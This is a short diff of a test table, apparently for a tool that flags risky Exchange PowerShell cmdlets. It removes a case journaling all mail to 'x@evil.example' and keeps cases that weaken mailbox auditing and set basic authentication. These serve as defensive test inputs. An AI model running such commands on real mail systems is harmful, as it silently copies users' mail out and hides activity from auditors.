@@ -58,11 +58,6 @@ const cmdlets = (
     ['New-ApplicationAccessPolicy', 'unknown to hardenbot: New-ApplicationAccessPolicy', { AppId: 'x' }],
     ['Set-User', 'unknown to hardenbot: Set-User', { Identity: 'mia', AuthenticationPolicy: 'basic' }],
     [
-      'New-JournalRule',
-      'changed mail flow or a mail filter (New-JournalRule)',
-      { Name: 'all', JournalEmailAddress: 'x@evil.example' },
-    ],
-    [
       'Set-Mailbox',
       'settings that no list shows (Set-Mailbox AuditOwner)',
       { Identity: 'mia', AuditOwner: '@{Remove="Create"}' },
